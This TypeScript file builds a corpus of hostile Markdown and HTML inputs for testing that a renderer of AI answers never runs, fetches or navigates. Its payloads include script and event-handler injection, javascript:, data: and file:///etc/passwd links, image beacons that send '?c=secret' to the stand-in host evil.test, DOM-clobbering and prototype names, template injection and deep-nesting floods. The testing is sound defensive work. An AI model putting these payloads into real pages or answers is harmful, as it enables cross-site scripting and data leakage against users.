/** Answers that try to run, fetch or navigate, made by crossing attacks with the places Markdown offers. */

export interface HostilePayload {
  name: string;
  text: string;
}

const RUN = 'window.pwned=1';

/** Raw HTML: every element that runs, fetches, frames or submits. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="https://evil.test/a.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://evil.test/pixel.png?c=secret">`,
  `<img srcset="https://evil.test/a 1x">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="https://evil.test/a.svg#x"></use></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style></math>`,
  `<iframe src="https://evil.test/"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="https://evil.test/"></object>`,
  `<embed src="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<base href="https://evil.test/">`,
  `<link rel="stylesheet" href="https://evil.test/a.css">`,
  `<style>*{background:url(https://evil.test/a)}</style>`,
  `<form action="https://evil.test/"><button autofocus>go</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video src="https://evil.test/a.mp4" autoplay onerror="${RUN}"></video>`,
  `<audio src="https://evil.test/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.test/a)">cover</div>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a id=root name=sotto href="https://evil.test">clobber</a>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<a href="https://evil.test" target=_blank onclick="${RUN}" ping="https://evil.test/p">x</a>`,
  `<webview src="https://evil.test"></webview>`,
];

/** Where raw HTML may hide. */
const PLACES: Array<[name: string, place: (html: string) => string]> = [
  ['alone', (html) => html],
  ['in a sentence', (html) => `Before ${html} after.`],
  ['in a list', (html) => `- one\n- ${html.replaceAll('\n', ' ')}\n- three`],
  ['in a quote', (html) => `> ${html.replaceAll('\n', ' ')}`],
  ['in a table', (html) => `| a | b |\n|---|---|\n| ${html.replaceAll('\n', ' ').replaceAll('|', '')} | c |`],
  ['in a heading', (html) => `# ${html.replaceAll('\n', ' ')}`],
];

/** Targets that must never be a link, or that must not be fetched. */
const TARGETS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `&#106;avascript:${RUN}`,
  `java%0ascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `file:///etc/passwd`,
  `blob:https://evil.test/1`,
  `app://sotto/../../package.json`,
  `ms-word:ofe|u|https://evil.test/a.docx`,
  `smb://evil.test/share`,
  `//evil.test/path`,
  `https://bank.test@evil.test/`,
  `https://evil.test/?c=secret`,
  `http://127.0.0.1:8080/`,
];

/** Every form in which Markdown can name a target. */
const FORMS: Array<[name: string, form: (target: string) => string]> = [
  ['link', (target) => `[click](${target})`],
  ['link with angle brackets', (target) => `[click](<${target}>)`],
  ['link with title', (target) => `[click](${target} "title\\" onmouseover=${RUN}")`],
  ['reference link', (target) => `[click][1]\n\n[1]: ${target}`],
  ['automatic link', (target) => `<${target}>`],
  ['picture', (target) => `![alt](${target})`],
  ['reference picture', (target) => `![alt][p]\n\n[p]: ${target}`],
  ['picture in a link', (target) => `[![alt](${target})](${target})`],
];

const OTHERS: HostilePayload[] = [
  { name: 'code with a hostile language', text: `\`\`\`js" onload="${RUN}\ncode\n\`\`\`` },
  {
    name: 'code with hostile words',
    text: `\`\`\`html startLine=9 {1}" style="x"\n</code></pre><script>${RUN}</script>\n\`\`\``,
  },
  { name: 'unfinished code', text: `\`\`\`\n<script>${RUN}</script>` },
  {
    name: 'mermaid',
    text: `\`\`\`mermaid\ngraph TD\nA[<img src=x onerror=${RUN}>]\nclick A "javascript:${RUN}"\n\`\`\``,
  },
  { name: 'math', text: `$$\\href{javascript:${RUN}}{x}$$ and $\\url{javascript:${RUN}}$` },
  ...[
    `\\href{javascript:${RUN}}{x}`,
    '\\includegraphics[width=9em]{https://evil.test/a.png}',
    `\\htmlData{x=y}{z}\\htmlId{root}{z}\\htmlClass{katex}{z}\\htmlStyle{position:fixed}{z}`,
    `\\text{<img src=x onerror=${RUN}>}`,
    '\\def\\x{\\x\\x}\\x',
    '\\newcommand{\\x}[1]{#1\\x{#1}}\\x{a}',
    '\\rule{99999em}{99999em}',
    '\\kern-99999em x',
    '\\unicode{<script>}',
    '{'.repeat(900),
    '\\frac'.repeat(300),
    '\\url{https://evil.test/?c=secret}',
  ].flatMap((formula, index) => [
    { name: `formula ${index} of its own`, text: `$$\n${formula}\n$$` },
    { name: `formula ${index} in a sentence`, text: `So \\(${formula}\\) it is.` },
  ]),
  { name: 'footnote', text: `Text[^a]\n\n[^a]: <script>${RUN}</script> [x](javascript:${RUN})` },
  {
    name: 'footnote that clobbers',
    text: 'Text[^constructor] and[^__proto__]\n\n[^constructor]: a\n\n[^__proto__]: b',
  },
  { name: 'task list', text: `- [x] done <img src=x onerror=${RUN}>\n- [ ] open` },
  { name: 'deep quotes', text: `${'> '.repeat(200)}x` },
  { name: 'deep lists', text: Array.from({ length: 60 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n') },
  { name: 'deep emphasis', text: `${'*'.repeat(500)}x${'*'.repeat(500)}` },
  { name: 'many brackets', text: `${'['.repeat(2000)}x${'](a)'.repeat(50)}` },
  { name: 'wide table', text: `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n|${'b|'.repeat(200)}` },
  {
    name: 'characters that hide',
    text: '\u202ekcatta\u202c \u200b\u200d\ufeff \u2066[x](https://evil.test)\u2069',
  },
  { name: 'entities', text: `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;` },
  { name: 'half a tag', text: `text <img src=x onerror=${RUN}` },
  { name: 'half a link', text: `text [click](javascript:${RUN}` },
  { name: 'half a picture', text: 'text ![alt](https://evil.test/a.png' },
  { name: 'tag across paragraphs', text: `<div>\n\n<script>\n\n${RUN}\n\n</script>\n\n</div>` },
  {
    name: 'bare addresses',
    text: `www.evil.test https://evil.test/?c=secret javascript:${RUN} mailto:a@evil.test`,
  },
];

/** More targets: schemes hidden by characters and entities, schemes that start programs, odd addresses. */
const ODD_TARGETS = [
  `java\tscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `&#x6A;&#x61;vascript&#58;${RUN}`,
  `java\u200bscript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\uff4aavascript:${RUN}`,
  `javascript\\:${RUN}`,
  `javascript://evil.test/%0a${RUN}`,
  `VBSCRIPT:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `about:blank`,
  `chrome://gpu`,
  `devtools://devtools/bundled/inspector.html`,
  `view-source:https://evil.test`,
  `intent://evil.test#Intent;scheme=https;end`,
  `ssh://-oProxyCommand=touch`,
  `tel:+100`,
  `\\\\evil.test\\share`,
  `https:\\\\evil.test\\path`,
  `https:evil.test`,
  `https://[::1]/`,
  `https://evil.test:99999/`,
  `https://\u0430pple.test/`,
  `https://evil.test/${'a'.repeat(5000)}`,
  `https://evil.test/$t(app.name)/{{host}}`,
  `streamdown:incomplete-link`,
];

const ODD_FORMS: Array<[name: string, form: (target: string) => string]> = [
  ['link', (target) => `[click](${target})`],
  ['definition over two lines', (target) => `[click][Ref]\n\n[ref]:\n  <${target}>\n  'title'`],
];

/** Names that a careless table look-up finds on every object, or that a page's own code looks up. */
const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'sotto', 'location', 'root'];

const NAME_FORMS: Array<[name: string, form: (name: string) => string]> = [
  ['reference', (name) => `[a][${name}] ![b][${name}]\n\n[${name}]: https://evil.test/`],
  ['language', (name) => `\`\`\`${name} ${name}=1\ncode\n\`\`\``],
  ['element', (name) => `<${name} id="${name}" name="${name}">x</${name}>`],
  ['footnote', (name) => `# ${name}\n\nx[^${name}]\n\n[^${name}]: y`],
];

const UNCLOSED = [
  '<!-- never closed\n\n**bold**',
  '<!-- a --><script>window.pwned=1</script><!-- b -->',
  '<![CDATA[ never closed\n\ntext',
  '<!DOCTYPE html><html><head><title>x</title></head></html>',
  '<?php echo 1',
  '<scr\n\nipt>window.pwned=1</scr\n\nipt>',
  '<a href="https://evil.test\n\n">x</a>',
  '<img\nsrc=x\nonerror=window.pwned=1\n>',
  '<details>\n<summary>\n\n<script>window.pwned=1</script>',
  '**[a](javascript:window.pwned=1)** ~~[b](javascript:window.pwned=1)~~ `[c](javascript:x)`',
  '[**a _b ![c](https://evil.test/c.png)_**](javascript:window.pwned=1)',
  '> - > 1. <script>window.pwned=1</script>\n> - > 2. [x](vbscript:1)',
  '[a](<javascript:window.pwned=1',
  '[a]: javascript:window.pwned=1\n\n[a]',
  '![a\n\n](https://evil.test/a.png',
  '~~~"><script>window.pwned=1</script>\ncode',
  '    <script>window.pwned=1</script>',
  'a | b\n-|-\n[x](javascript:1) | <svg onload=window.pwned=1>\n`|` | ![p](https://evil.test/p)',
  '- [ ] [x](javascript:1)\n- [X] <input type=checkbox onclick=window.pwned=1>',
  '![$t(app.name) {{alt}} $t(errors.INTERNAL.title)](https://evil.test/a.png)',
  '[\u202ehttps://bank.test/\u202c](https://evil.test/) and [https://bank.test/evil.test](https://evil.test/)',
  '[https://bank.test](https://evil.test "https://bank.test")',
  'a\u0000b\u0008c\u001b[31md\u007f \ud800 \udc00 \ufffe',
  '&#0; &#xD800; &#x110000; &#99999999; &lt;&gt;&quot;&apos; &nosuch;',
  '{{constructor.constructor("window.pwned=1")()}} \u0024{window.pwned=1} <%= 1 %>',
];

const REPEATED: HostilePayload[] = [
  ['pictures', '![', 300],
  ['angle brackets', '<', 2000],
  ['backticks', '`', 501],
  ['underscores', '_a', 500],
  ['tildes', '~~', 400],
  ['entities', '&lt;', 500],
  ['comments', '<!--', 300],
  ['elements', '<b>', 300],
  ['lines of a quote', '>\n', 300],
  ['rules', '---\n', 200],
  ['rows', '|a|b|c|\n|-|-|-|\n', 150],
  ['marks that combine', 'e\u0301\u0302\u0303\u0304', 300],
].map(([name, part, count]) => ({ name: `many ${name}`, text: `x ${String(part).repeat(Number(count))}` }));

function cross<T extends string>(
  kind: string,
  parts: readonly T[],
  forms: ReadonlyArray<[name: string, form: (part: T) => string]>,
): HostilePayload[] {
  return parts.flatMap((part) =>
    forms.map(([name, form]) => ({
      name: `${kind}, ${name}: ${JSON.stringify(part.slice(0, 24))}`,
      text: form(part),
    })),
  );
}

/** More places, for the long run. */
const MORE_PLACES: Array<[name: string, place: (html: string) => string]> = [
  ['in bold', (html) => `**${html}**`],
  ['in a link', (html) => `[${html}](https://evil.test/)`],
  ['in a picture', (html) => `![${html}](https://evil.test/a.png)`],
  ['in a title', (html) => `[x](https://evil.test/ "${html.replaceAll('"', "'").replaceAll('\n', ' ')}")`],
  ['in a footnote', (html) => `x[^1]\n\n[^1]: ${html.replaceAll('\n', ' ')}`],
  ['in a definition', (html) => `[x]\n\n[x]: https://evil.test/ '${html.replaceAll('\n', ' ')}'`],
  ['in a task', (html) => `- [ ] ${html.replaceAll('\n', ' ')}`],
  ['in a list in a quote', (html) => `> 1. a\n>    - ${html.replaceAll('\n', ' ')}`],
  ['in code that is not closed', (html) => `\`\`\`\n${html}`],
  ['in a span of code that is not closed', (html) => `\`${html}`],
  ['in a formula', (html) => `$$\\text{${html}}$$`],
  ['in a formula of its own', (html) => `\\[\n${html}\n\\]`],
  ['in thoughts', (html) => `<think>${html}</think>${html}`],
  ['beside a table', (html) => `| a |\n|---|\n${html}`],
  ['after an escape', (html) => `\\${html}`],
  ['with entities', (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;')],
  ['in capitals', (html) => html.toUpperCase()],
  ['twice', (html) => `${html}${html}`],
];

const MORE_FORMS: Array<[name: string, form: (target: string) => string]> = [
  ['link in a table', (target) => `| a |\n|---|\n| [x](${target}) |`],
  ['link in a heading', (target) => `## [x](${target})`],
  ['link in a footnote', (target) => `x[^1]\n\n[^1]: [y](${target})`],
  ['link in emphasis', (target) => `***[x](${target})***`],
  ['formula', (target) => `$$\\href{${target}}{x}$$`],
  ['raw link', (target) => `<a href="${target}">x</a>`],
  ['raw picture', (target) => `<img src='${target}'>`],
  ['link in a list in a quote', (target) => `> - [x](${target})`],
  ['bare', (target) => `See ${target} now.`],
  ['link in thoughts', (target) => `<think>[x](${target})</think>[x](${target})`],
];

/** At least 500 distinct texts, in the long run 1,500; the same ones every time. */
export function hostilePayloads(isLong = process.env.SOTTO_FAULTS === 'full'): HostilePayload[] {
  const long = isLong
    ? [
        ...cross('element', ELEMENTS, MORE_PLACES),
        ...cross('target', TARGETS, MORE_FORMS),
        ...cross(
          'odd target',
          ODD_TARGETS,
          FORMS.filter(([name]) => ODD_FORMS.every(([other]) => other !== name)),
        ),
      ]
    : [];
  const all = [
    ...cross('element', ELEMENTS, PLACES),
    ...cross('target', TARGETS, FORMS),
    ...cross('odd target', ODD_TARGETS, ODD_FORMS),
    ...cross('name', NAMES, NAME_FORMS),
    ...UNCLOSED.map((text, index) => ({ name: `unclosed or nested ${index}`, text })),
    ...REPEATED,
    ...OTHERS,
    ...long,
  ];
  const texts = new Set<string>();
  return all.filter(({ text }) => !texts.has(text) && texts.add(text));
}
